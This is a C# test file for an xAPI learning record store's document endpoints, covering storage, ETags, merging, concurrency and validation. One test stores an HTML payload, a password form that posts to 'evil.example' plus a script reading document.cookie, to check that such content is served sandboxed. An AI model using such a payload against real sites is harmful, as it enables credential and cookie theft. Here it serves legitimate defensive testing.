using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using Guild.Tests.Infrastructure;
using static Guild.Tests.Features.Lrs.LrsTesting;

namespace Guild.Tests.Features.Lrs;

/// <summary>State, Activity Profile and Agent Profile documents (Communication 2.2-2.7) and concurrency (3.1); Activities and Agents.</summary>
public abstract class DocumentResourceTests(GuildApp app)
{
    private static string AgentJson(string name) => Uri.EscapeDataString($"{{\"objectType\":\"Agent\",\"mbox\":\"mailto:{name}@example.com\"}}");

    private static string StatePath(string agent, string activity, string? stateId = null, string? extra = null) =>
        $"/xapi/activities/state?activityId={Uri.EscapeDataString(activity)}&agent={AgentJson(agent)}" +
        (stateId is null ? "" : $"&stateId={Uri.EscapeDataString(stateId)}") + (extra ?? "");

    private static StringContent Json(string json) => new(json, Encoding.UTF8, "application/json");

    private static async Task<HttpResponseMessage> SendAsync(LrsTestClient lrs, HttpMethod method, string path, HttpContent? content = null,
        string? ifMatch = null, string? ifNoneMatch = null)
    {
        var request = new HttpRequestMessage(method, path) { Content = content };
        if (ifMatch is not null) { request.Headers.TryAddWithoutValidation("If-Match", ifMatch); }
        if (ifNoneMatch is not null) { request.Headers.TryAddWithoutValidation("If-None-Match", ifNoneMatch); }
        return await lrs.Http.SendAsync(request);
    }

    [Fact]
    public async Task A_state_document_is_stored_read_with_a_sha1_etag_and_deleted()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var path = StatePath(Unique("s"), "http://example.com/course", "bookmark");
        using (var put = await SendAsync(lrs, HttpMethod.Put, path, Json("{\"page\":3}")))
        {
            Assert.Equal(HttpStatusCode.NoContent, put.StatusCode);
        }
        using (var get = await lrs.Http.GetAsync(path))
        {
            Assert.Equal(HttpStatusCode.OK, get.StatusCode);
            Assert.Equal("{\"page\":3}", await get.Content.ReadAsStringAsync());
            Assert.Matches("^\"[0-9a-f]{40}\"$", get.Headers.ETag!.Tag);
            Assert.True(get.Content.Headers.LastModified.HasValue);
        }
        using (var delete = await lrs.Http.DeleteAsync(path))
        {
            Assert.Equal(HttpStatusCode.NoContent, delete.StatusCode);
        }
        using var gone = await lrs.Http.GetAsync(path);
        Assert.Equal(HttpStatusCode.NotFound, gone.StatusCode);
    }

    [Fact]
    public async Task Binary_documents_keep_their_bytes_and_content_type()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var path = StatePath(Unique("b"), "http://example.com/course", "snapshot");
        var bytes = new byte[] { 0, 1, 2, 255, 254, 10, 13 };
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        using (var put = await SendAsync(lrs, HttpMethod.Put, path, content))
        {
            Assert.Equal(HttpStatusCode.NoContent, put.StatusCode);
        }
        using var get = await lrs.Http.GetAsync(path);
        Assert.Equal(bytes, await get.Content.ReadAsByteArrayAsync());
        Assert.Equal("application/octet-stream", get.Content.Headers.ContentType!.MediaType);
    }

    [Theory]
    [InlineData("/xapi/activities/state?activityId=http%3A%2F%2Fexample.com%2Fcourse&agent={agent}&stateId=page")]
    [InlineData("/xapi/activities/profile?activityId=http%3A%2F%2Fexample.com%2F{unique}&profileId=page")]
    [InlineData("/xapi/agents/profile?agent={agent}&profileId=page")]
    public async Task A_stored_html_document_is_served_as_a_sandboxed_download_never_as_a_guild_page(string template)
    {
        using var lrs = await app.CreateLrsClientAsync();
        var unique = Unique("html");
        var path = template.Replace("{agent}", AgentJson(unique), StringComparison.Ordinal).Replace("{unique}", unique, StringComparison.Ordinal);
        const string html = "<!doctype html><form action=\"https://evil.example/\"><input name=password></form><script>alert(document.cookie)</script>";
        using (var put = await SendAsync(lrs, HttpMethod.Put, path, new StringContent(html, Encoding.UTF8, "text/html"), ifNoneMatch: "*"))
        {
            Assert.Equal(HttpStatusCode.NoContent, put.StatusCode);
        }
        using var get = await lrs.Http.GetAsync(path);
        Assert.Equal(HttpStatusCode.OK, get.StatusCode);
        Assert.Equal(html, await get.Content.ReadAsStringAsync()); // the bytes as stored: only how a browser treats them changes
        Assert.Equal("attachment", get.Content.Headers.ContentDisposition?.DispositionType);
        var policy = get.Headers.GetValues("Content-Security-Policy").Single();
        Assert.Contains("sandbox", policy.Split(';', StringSplitOptions.TrimEntries));
        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.Equal("nosniff", get.Headers.GetValues("X-Content-Type-Options").Single());
    }

    [Fact]
    public async Task Post_merges_top_level_properties_of_json_objects()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var path = StatePath(Unique("m"), "http://example.com/course", "vars");
        using (await SendAsync(lrs, HttpMethod.Post, path, Json("{\"x\":\"foo\",\"y\":\"bar\"}"))) { }
        using (var merge = await SendAsync(lrs, HttpMethod.Post, path, Json("{\"x\":\"bash\",\"z\":\"faz\"}")))
        {
            Assert.Equal(HttpStatusCode.NoContent, merge.StatusCode);
        }
        var merged = await lrs.GetJsonAsync(path);
        Assert.Equal("bash", merged["x"]!.GetValue<string>());
        Assert.Equal("bar", merged["y"]!.GetValue<string>());
        Assert.Equal("faz", merged["z"]!.GetValue<string>());
    }

    [Fact]
    public async Task Post_that_cannot_merge_is_rejected_and_changes_nothing()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var path = StatePath(Unique("n"), "http://example.com/course", "vars");
        using (await SendAsync(lrs, HttpMethod.Post, path, Json("{\"x\":1}"))) { }
        using (var text = await SendAsync(lrs, HttpMethod.Post, path, new StringContent("plain words", Encoding.UTF8, "text/plain")))
        {
            Assert.Equal(HttpStatusCode.BadRequest, text.StatusCode);
        }
        using (var array = await SendAsync(lrs, HttpMethod.Post, path, Json("[1,2]")))
        {
            Assert.Equal(HttpStatusCode.BadRequest, array.StatusCode);
        }
        Assert.Equal(1, (await lrs.GetJsonAsync(path))["x"]!.GetValue<int>());
    }

    [Fact]
    public async Task State_ids_are_listed_with_since_and_registration_separates_contexts()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var agent = Unique("l");
        var registration = Guid.NewGuid();
        using (await SendAsync(lrs, HttpMethod.Put, StatePath(agent, "http://example.com/c", "a"), Json("{}"))) { }
        var before = DateTimeOffset.Parse("2000-01-01T00:00:00Z", System.Globalization.CultureInfo.InvariantCulture);
        app.Clock.Advance(TimeSpan.FromSeconds(5));
        var cut = app.Clock.GetUtcNow();
        app.Clock.Advance(TimeSpan.FromSeconds(5));
        using (await SendAsync(lrs, HttpMethod.Put, StatePath(agent, "http://example.com/c", "b"), Json("{}"))) { }
        using (await SendAsync(lrs, HttpMethod.Put, StatePath(agent, "http://example.com/c", "r", $"&registration={registration}"), Json("{}"))) { }
        var all = await lrs.GetJsonAsync(StatePath(agent, "http://example.com/c"));
        Assert.Equal(["a", "b"], all.AsArray().Select(n => n!.GetValue<string>()));
        var since = await lrs.GetJsonAsync(StatePath(agent, "http://example.com/c", extra: "&since=" + Uri.EscapeDataString(cut.ToString("O"))));
        Assert.Equal(["b"], since.AsArray().Select(n => n!.GetValue<string>()));
        var registered = await lrs.GetJsonAsync(StatePath(agent, "http://example.com/c", extra: $"&registration={registration}"));
        Assert.Equal(["r"], registered.AsArray().Select(n => n!.GetValue<string>()));
        Assert.True(before < cut);
        using (var deleteAll = await lrs.Http.DeleteAsync(StatePath(agent, "http://example.com/c")))
        {
            Assert.Equal(HttpStatusCode.NoContent, deleteAll.StatusCode);
        }
        Assert.Empty((await lrs.GetJsonAsync(StatePath(agent, "http://example.com/c"))).AsArray());
        Assert.Single((await lrs.GetJsonAsync(StatePath(agent, "http://example.com/c", extra: $"&registration={registration}"))).AsArray());
    }

    [Fact]
    public async Task Document_parameters_are_validated()
    {
        using var lrs = await app.CreateLrsClientAsync();
        foreach (var path in new[]
                 {
                     "/xapi/activities/state?agent=" + AgentJson("x") + "&stateId=s",
                     "/xapi/activities/state?activityId=notiri&agent=" + AgentJson("x") + "&stateId=s",
                     "/xapi/activities/state?activityId=http%3A%2F%2Fexample.com%2Fa&agent=%7B%7D&stateId=s",
                     "/xapi/activities/state?activityId=http%3A%2F%2Fexample.com%2Fa&agent=" + AgentJson("x") + "&registration=abc",
                     "/xapi/activities/state?activityId=http%3A%2F%2Fexample.com%2Fa&agent=" + AgentJson("x") + "&StateId=s",
                     "/xapi/agents/profile?agent=" + Uri.EscapeDataString("{\"objectType\":\"Group\",\"mbox\":\"mailto:g@example.com\"}") + "&profileId=p",
                     "/xapi/activities/profile?activityId=http%3A%2F%2Fexample.com%2Fa&profileId=p&since=2020-01-01T00:00:00Z",
                 })
        {
            using var response = await lrs.Http.GetAsync(path);
            Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{path} answered {response.StatusCode}");
        }
    }

    [Fact]
    public async Task Profile_put_over_an_existing_document_without_if_match_answers_409_and_changes_nothing()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var path = $"/xapi/activities/profile?activityId={Uri.EscapeDataString("http://example.com/" + Unique("p"))}&profileId=settings";
        using (var create = await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":1}"), ifNoneMatch: "*"))
        {
            Assert.Equal(HttpStatusCode.NoContent, create.StatusCode);
        }
        using (var conflict = await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":2}")))
        {
            Assert.Equal(HttpStatusCode.Conflict, conflict.StatusCode);
            Assert.Contains("If-Match", await conflict.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        }
        Assert.Equal(1, (await lrs.GetJsonAsync(path))["v"]!.GetValue<int>());
    }

    [Fact]
    public async Task If_match_with_the_current_etag_replaces_and_a_stale_etag_answers_412()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var path = $"/xapi/agents/profile?agent={AgentJson(Unique("ap"))}&profileId=prefs";
        using (await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":1}"), ifNoneMatch: "*")) { }
        string etag;
        using (var get = await lrs.Http.GetAsync(path))
        {
            etag = get.Headers.ETag!.Tag;
        }
        using (var replace = await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":2}"), ifMatch: etag))
        {
            Assert.Equal(HttpStatusCode.NoContent, replace.StatusCode);
        }
        using (var stale = await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":3}"), ifMatch: etag))
        {
            Assert.Equal(HttpStatusCode.PreconditionFailed, stale.StatusCode);
        }
        using (var exists = await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":4}"), ifNoneMatch: "*"))
        {
            Assert.Equal(HttpStatusCode.PreconditionFailed, exists.StatusCode);
        }
        using (var staleDelete = await SendAsync(lrs, HttpMethod.Delete, path, ifMatch: etag))
        {
            Assert.Equal(HttpStatusCode.PreconditionFailed, staleDelete.StatusCode);
        }
        Assert.Equal(2, (await lrs.GetJsonAsync(path))["v"]!.GetValue<int>());
    }

    [Fact]
    public async Task State_put_without_headers_replaces_but_a_wrong_if_match_answers_412()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var path = StatePath(Unique("c"), "http://example.com/course", "s");
        using (await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":1}"))) { }
        using (var replace = await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":2}")))
        {
            Assert.Equal(HttpStatusCode.NoContent, replace.StatusCode);
        }
        using (var wrong = await SendAsync(lrs, HttpMethod.Put, path, Json("{\"v\":3}"), ifMatch: "\"1111111111111111111111111111111111111111\""))
        {
            Assert.Equal(HttpStatusCode.PreconditionFailed, wrong.StatusCode);
        }
        Assert.Equal(2, (await lrs.GetJsonAsync(path))["v"]!.GetValue<int>());
    }

    [Fact]
    public async Task Activity_and_agent_profile_ids_are_listed()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var activity = Uri.EscapeDataString("http://example.com/" + Unique("ids"));
        using (await SendAsync(lrs, HttpMethod.Post, $"/xapi/activities/profile?activityId={activity}&profileId=one", Json("{}"))) { }
        using (await SendAsync(lrs, HttpMethod.Post, $"/xapi/activities/profile?activityId={activity}&profileId=two", Json("{}"))) { }
        var ids = await lrs.GetJsonAsync($"/xapi/activities/profile?activityId={activity}");
        Assert.Equal(["one", "two"], ids.AsArray().Select(n => n!.GetValue<string>()).Order());
        var agent = AgentJson(Unique("ag"));
        using (await SendAsync(lrs, HttpMethod.Post, $"/xapi/agents/profile?agent={agent}&profileId=p", Json("{}"))) { }
        Assert.Single((await lrs.GetJsonAsync($"/xapi/agents/profile?agent={agent}")).AsArray());
    }

    [Fact]
    public async Task The_activities_resource_answers_the_definition_merged_from_statements()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var id = "http://example.com/activities/" + Unique("def");
        await lrs.StoreAsync($"{{\"actor\":{{\"mbox\":\"mailto:a@example.com\"}},\"verb\":{{\"id\":\"http://adlnet.gov/expapi/verbs/experienced\"}},\"object\":{{\"id\":\"{id}\",\"definition\":{{\"name\":{{\"en-US\":\"Fire drill\"}},\"type\":\"http://adlnet.gov/expapi/activities/meeting\"}}}}}}");
        await lrs.StoreAsync($"{{\"actor\":{{\"mbox\":\"mailto:a@example.com\"}},\"verb\":{{\"id\":\"http://adlnet.gov/expapi/verbs/experienced\"}},\"object\":{{\"id\":\"{id}\",\"definition\":{{\"name\":{{\"nl-NL\":\"Brandoefening\"}}}}}}}}");
        var activity = await lrs.GetJsonAsync($"/xapi/activities?activityId={Uri.EscapeDataString(id)}");
        Assert.Equal("Activity", activity["objectType"]!.GetValue<string>());
        Assert.Equal("Fire drill", activity["definition"]!["name"]!["en-US"]!.GetValue<string>());
        Assert.Equal("Brandoefening", activity["definition"]!["name"]!["nl-NL"]!.GetValue<string>());
        Assert.Equal("http://adlnet.gov/expapi/activities/meeting", activity["definition"]!["type"]!.GetValue<string>());
        var unknown = await lrs.GetJsonAsync($"/xapi/activities?activityId={Uri.EscapeDataString("http://example.com/never-seen")}");
        Assert.Equal("http://example.com/never-seen", unknown["id"]!.GetValue<string>());
    }

    [Fact]
    public async Task The_agents_resource_answers_a_person_object()
    {
        using var lrs = await app.CreateLrsClientAsync();
        var person = await lrs.GetJsonAsync("/xapi/agents?agent=" + Uri.EscapeDataString("{\"objectType\":\"Agent\",\"name\":\"Ena\",\"mbox\":\"mailto:ena@example.com\"}"));
        Assert.Equal("Person", person["objectType"]!.GetValue<string>());
        Assert.Equal("mailto:ena@example.com", person["mbox"]![0]!.GetValue<string>());
        Assert.Equal("Ena", person["name"]![0]!.GetValue<string>());
        using var missing = await lrs.Http.GetAsync("/xapi/agents");
        Assert.Equal(HttpStatusCode.BadRequest, missing.StatusCode);
    }
}

[Collection(SqliteCollection.Name)]
public sealed class DocumentResourceTestsOnSqlite(SqliteApp app) : DocumentResourceTests(app);

[Collection(PostgresCollection.Name)]
public sealed class DocumentResourceTestsOnPostgres(PostgresApp app) : DocumentResourceTests(app);
